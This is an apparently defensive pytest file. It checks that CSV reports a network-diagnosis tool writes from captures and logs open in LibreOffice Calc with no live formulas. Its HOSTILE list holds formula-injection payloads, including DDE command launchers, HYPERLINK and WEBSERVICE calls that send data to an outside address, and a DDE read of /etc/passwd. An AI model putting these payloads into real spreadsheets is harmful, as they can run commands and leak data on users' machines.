"""LibreOffice opens our tables and finds no formula in them, whatever stood in packets and logs."""

import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest

from rpcdiag.analysis import analyze
from rpcdiag.report import sheet
from rpcdiag.report.output import Options
from rpcdiag.report.outputs import csv
from tests.build import exchanges, logs
from tests.build.conversation import Recording, Tcp
from tests.build.story import START

SOFFICE = shutil.which("soffice")
pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice Calc is not installed (soffice)")
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
FILTER = "Text - txt - csv (StarCalc)"
# separators, quote, character set, first line, columns, language, quoted as text, numbers told, ..., formulas evaluated
WAYS = {
    "as it is opened by itself": None,
    "with formulas evaluated": f"{FILTER}:44,34,76,1,,0,false,true,false,false,false,0,true,false,true",
    "with comma, semicolon, tab and blank as separators": f"{FILTER}:44/59/9/32,34,76,1,,0,false,true,false,false,false,0,true,"
    "false,true",
    "with the semicolon alone, as where the comma is for decimals": f"{FILTER}:59,34,76,1,,0,false,true,false,false,false,0,"
    "true,false,true",
}  # fmt: skip
HOSTILE = (
    "=1+1", "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"here\")", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3", "-cmd|'x'!A0",
    "@SUM(1+1)*cmd|'x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1", '"=1+1', '"",=1+1', '";=1+1', "x;=1+1", "x,=1+1", "x\t=1+1", "x\n=1+1",
    "x\r\n=1+1", "';=1+1", "'", "=", "{=1+1}", "\u22122+3", "%=1+1", "1;=1+1;2", 'x;"=1+1"', 'x; "" =1+1;', "x;'=1+1", "x;;=1+1;", '";"=1+1";"', '=1+1;', "x; @SUM(1);", "=WEBSERVICE(\"http://192.0.2.1/\")",
    "=DDE(\"soffice\";\"/etc/passwd\";\"a1\")", "\x00=1+1", "\x0b=1+1", "\x85=1+1", "\u2028=1+1",
)  # fmt: skip


def _opened(folder: Path, way: str | None, *texts: str) -> list[list[tuple[str | None, str]]]:
    """Formula and text of every cell that LibreOffice makes of each; it takes seconds to start, so all go at once."""
    paths = [folder / f"{number}.csv" for number in range(len(texts))]
    for path, text in zip(paths, texts, strict=True):
        path.write_bytes(text.encode())
    command = [str(SOFFICE), f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless", "--norestore"]
    command += [f"--infilter={way}"] if way else []
    command += ["--convert-to", "fods", "--outdir", str(folder), *map(str, paths)]
    subprocess.run(command, capture_output=True, check=True, timeout=120)
    return [
        [
            (cell.get(f"{TABLE}formula"), "\n".join("".join(part.itertext()) for part in cell.iter(f"{TEXT}p")))
            for cell in ElementTree.parse(path.with_suffix(".fods")).iter(f"{TABLE}table-cell")
        ]
        for path in paths
    ]


def _written(lines: Iterator[str]) -> str:
    return "".join(f"{line}\n" for line in lines)


@pytest.mark.parametrize("way", WAYS.values(), ids=WAYS)
def test_no_cell_is_a_formula(tmp_path: Path, way: str | None) -> None:
    plain = "".join('"' + one.replace('"', '""') + '",1\r\n' for one in HOSTILE if "'" not in one)
    rows: list[tuple[object, object]] = [(one, -1) for one in HOSTILE] + [("x", [one, one]) for one in HOSTILE]
    raw, cells = _opened(tmp_path, way, plain, _written(sheet.lines(("value", "another"), rows)))
    assert any(formula for formula, _ in raw), "these would be, as they are"
    assert [(formula, text) for formula, text in cells if formula] == []
    assert len(cells) > len(HOSTILE)


def test_what_is_written_of_a_hostile_capture_and_log(tmp_path: Path) -> None:
    recording = Recording(START)
    exchanges.lookup(recording, "10.0.0.1", 50000, "10.0.0.2", exchanges.SVCCTL, 49670)
    Tcp(recording, "10.0.0.1", 50001, "10.0.0.2", 49670).syns()
    (tmp_path / "=1+1.pcapng").write_bytes(recording.pcapng())
    rows = logs.tmg_header(START) + "".join(
        logs.tmg(
            START, "10.0.0.1:50001", "10.0.0.2:49670", ("Internal", "=2+2"), "Denied", "0xc004000d", one, service=one
        )
        for one in HOSTILE
        if not set(one) & set("\t\r\n\x0b\x85\u2028")
    )
    (tmp_path / "=x.log").write_text(rows, encoding="utf-8")
    diagnosis = analyze([str(tmp_path / "=1+1.pcapng")], [str(tmp_path / "=x.log")])
    assert csv.OUTPUT.files is not None
    tables = {name: _written(lines) for name, lines in csv.OUTPUT.files(diagnosis, Options())}
    assert "'=1+1" in tables["log_matches.csv"]
    for way in (WAYS["with formulas evaluated"], [*WAYS.values()][-1]):
        (cells,) = _opened(tmp_path, way, "".join(tables.values()))
        assert len(cells) > 50
        assert [(formula, text) for formula, text in cells if formula] == []
